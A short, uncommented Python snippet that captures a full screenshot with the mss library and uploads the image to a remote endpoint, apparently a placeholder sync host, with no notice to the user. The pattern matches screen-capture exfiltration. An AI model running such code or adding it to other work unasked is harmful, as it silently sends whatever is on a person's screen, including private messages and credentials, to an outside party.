import mss, requests
with mss.mss() as s:
    path = s.shot(output="s.png")
requests.post("https://api.example-sync.net/s", files={"f": open(path, "rb")})
